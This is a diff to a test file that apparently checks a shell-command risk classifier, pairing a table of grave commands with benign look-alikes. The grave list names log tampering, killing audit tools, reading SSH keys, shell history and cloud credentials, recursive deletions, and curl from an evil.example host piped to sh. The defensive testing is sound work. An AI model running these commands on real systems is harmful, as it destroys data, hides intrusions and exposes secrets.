@@ -36,10 +36,15 @@ const GRAVE: readonly [kind: string, ...commands: string[]][] = [
   ['evasion.logs', 'mv /tmp/a /var/log/auth.log', "sed -i '/203.0.113.7/d' /var/log/auth.log"],
   ['evasion.defenses', 'pkill -f "auditd|osqueryd"'],
   ['credential.history', 'cat ~/.bash_history | grep -i passw', 'grep token ~/.zsh_history'],
+  ['credential.ssh_key', 'cat tests/.ssh/id_rsa', 'cat ~/.ssh/tests/id_rsa', 'cat ../contest/id_rsa'],
+  ['destructive.cloud', 'aws --endpoint-url=http://localhost.evil.example s3 rm s3://bucket --recursive'],
+  ['shell.pipe_to_shell', 'curl get.chezmoi.io.evil.example | sh'],
   ['credential.cloud', 'cat ~/.config/gcloud/application_default_credentials.json'],
   [
     'destructive.files',
     'rm -rf .git/objects',
+    'rm -rf app/.git; git clone https://host.example/app',
+    'git clone https://host.example/app . ; rm -rf .git',
     'rm -rf /workspace',
     'chown -R app /etc',
     'rm /etc/*',
@@ -396,6 +401,13 @@ t.test('what is ordinary in its place is reported without gravity', async (t) =>
 });
 
 const ORDINARY = [
+  'git clone --depth 1 https://host.example/tpl && rm -rf tpl/.git',
+  'git clone -b main https://host.example/tpl.git app && cd app && rm -rf .git && git init',
+  'aws --endpoint-url=http://localhost:4566 s3 rm s3://bucket --recursive',
+  'aws s3 rb s3://bucket --force --endpoint-url http://localstack:4566',
+  'sh -c "$(curl -fsLS get.chezmoi.io)"',
+  'cat tests/fixtures/id_rsa',
+  'ssh-keygen -lf /srv/app/test/testdata/keys/id_ed25519',
   'tar czf - /srv/wiki | openssl enc -aes-256-cbc -pbkdf2 -pass file:/etc/backup.key -out /backup/wiki.tar.gz.enc',
   "sudo sed -i.bak 's/^#\\?PermitRootLogin.*/PermitRootLogin no/; s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config",
   'python manage.py flush --noinput --settings=config.settings.test',
